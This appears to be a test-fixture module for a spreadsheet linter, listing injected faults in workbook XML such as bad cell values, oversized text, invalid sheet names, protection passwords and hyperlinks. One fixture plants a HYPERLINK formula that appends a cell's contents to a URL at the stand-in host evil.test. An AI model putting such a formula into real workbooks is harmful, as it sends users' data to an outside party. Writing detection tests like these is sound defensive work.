"""Faults of cells, of sheets and of what lies on them."""

from __future__ import annotations

from tests.workbook_lint.plants.planting import (
    BOOK,
    BOOK_RELS,
    CALLS,
    FIRST,
    FIRST_RELS,
    RELATION,
    STRINGS,
    TABLE,
    Edit,
    Plant,
    plant,
)

FORMULA = "<f>A2+1</f>"
LINK = (
    f'<Relationship Id="rId9" Type="{RELATION}/hyperlink" Target="https://evil.test/" TargetMode="External"/>'
)

PLANTS = (
    plant("shared-string", FIRST, "<v>15</v>", "<v>18</v>"),
    plant("shared-string", FIRST, "<v>15</v>", "<v>-1</v>"),
    plant("cell-order", FIRST, '<row r="4"', '<row r="2"><c r="Z2"/></row><row r="4"'),
    plant("cell-order", FIRST, '<row r="4"', '<row r="3"/><row r="4"'),
    plant("cell-order", FIRST, '<c r="J3">', '<c r="C3"/><c r="J3">'),
    plant("cell-order", FIRST, '<c r="J3">', '<c r="L3"/><c r="J3">'),
    plant("cell-place", FIRST, '<c r="J4">', '<c r="J5">'),
    plant("cell-place", FIRST, '<c r="J4">', '<c r="XFE4">'),
    plant("cell-style", FIRST, '<c r="A1" s="1"', '<c r="A1" s="3"'),
    plant("cell-style", CALLS, '<col min="1"', '<col style="9" min="1"'),
    plant("cell-style", CALLS, '<row r="5"', '<row s="9" customFormat="1" r="5"'),
    plant("cell-text-length", STRINGS, ">Merged<", f">{'x' * 32_768}<"),
    plant("cell-text-length", STRINGS, ">Merged<", f">{chr(0x1F4DE) * 16_384}<"),
    plant("cell-text-length", FIRST, 't="s"><v>16</v>', f't="inlineStr"><is><t>{"x" * 32_768}</t></is>'),
    plant("cell-value", FIRST, "<v>7.55</v>", "<v>7,55</v>"),
    plant("cell-value", FIRST, "<v>7.55</v>", "<v>nan</v>"),
    plant("cell-value", FIRST, '<c r="J4"><v>3600</v>', '<c r="J4"><v></v>'),
    plant("cell-value", FIRST, 't="b"><v>1</v>', 't="b"><v>TRUE</v>'),
    plant("cell-value", FIRST, 't="b"><v>1</v>', 't="e"><v>#OOPS</v>'),
    Plant("missing-value", (Edit(BOOK, ' fullCalcOnLoad="1"', ""), Edit(FIRST, "<v>7.55</v>", ""))),
    Plant("missing-value", (Edit(BOOK, ' fullCalcOnLoad="1"', ""), Edit(FIRST, "<v>7.55</v>", "<v></v>"))),
    plant("row-height", CALLS, 'ht="30"', 'ht="410"'),
    plant("row-height", CALLS, 'ht="30"', 'ht="-1"'),
    plant("column-width", CALLS, 'width="20.7109375"', 'width="256"'),
    plant("column-width", CALLS, "</cols>", '<col min="1" max="3" width="9"/></cols>'),
    plant("sheet-name", BOOK, '<sheet name="First"', f'<sheet name="{"F" * 32}"'),
    plant("sheet-name", BOOK, '<sheet name="First"', '<sheet name="a/b"'),
    plant("sheet-name", BOOK, '<sheet name="First"', '<sheet name="History"'),
    plant("sheet-name", BOOK, '<sheet name="First"', '<sheet name="\'First"'),
    plant("sheet-twice", BOOK, '<sheet name="First"', '<sheet name="ALL CALLS"'),
    plant("merge-overlap", FIRST, 'ref="A6:B6"', 'ref="B5:B6"'),
    plant("validation-list", FIRST, '"open,closed"', f'"{"open," * 50}closed"'),
    plant("validation-text", FIRST, 'prompt="Choose"', f'prompt="{"x" * 256}"'),
    plant("validation-text", FIRST, 'prompt="Choose"', f'promptTitle="{"x" * 33}" prompt="x"'),
    plant("format-priority", FIRST, 'priority="2"', 'priority="1"'),
    plant("format-style", FIRST, 'dxfId="0" priority="2"', 'dxfId="1" priority="2"'),
    plant("format-style", TABLE, '<tableColumn id="2"', '<tableColumn dataDxfId="7" id="2"'),
    plant("password", CALLS, '<sheetProtection sheet="1"', '<sheetProtection password="83AF" sheet="1"'),
    plant("password", CALLS, '<sheetProtection sheet="1"', '<sheetProtection hashValue="eA==" sheet="1"'),
    plant("password", BOOK, "<bookViews>", '<workbookProtection workbookPassword="83AF"/><bookViews>'),
    plant("link-place", FIRST, "location=\"'All calls'!A1\"", 'location="Elsewhere!A1"'),
    plant("link-place", FIRST, "location=\"'All calls'!A1\"", 'location="no_such_name"'),
    Plant(
        "hyperlink",
        (
            Edit(FIRST, "location=\"'All calls'!A1\"", 'r:id="rId9"'),
            Edit(FIRST_RELS, "</Relationships>", f"{LINK}</Relationships>"),
        ),
    ),
    plant("hyperlink", FIRST, FORMULA, '<f>HYPERLINK("https://evil.test/?"&amp;A2,"here")</f>'),
    plant("hyperlink", FIRST, FORMULA, "<f>HYPERLINK(A2)</f>"),
    Plant(
        "calculation-chain",
        (
            Edit(
                BOOK_RELS,
                "</Relationships>",
                f'<Relationship Id="rId9" Type="{RELATION}/calcChain" '
                'Target="calcChain.xml"/></Relationships>',
            ),
            Edit(
                "[Content_Types].xml",
                "</Types>",
                '<Override PartName="/xl/calcChain.xml" ContentType="application/vnd.openxmlformats-'
                'officedocument.spreadsheetml.calcChain+xml"/></Types>',
            ),
            Edit(
                "xl/calcChain.xml",
                new='<calcChain xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
                '<c r="A3" i="1"/><c r="J4"/></calcChain>',
            ),
        ),
    ),
)
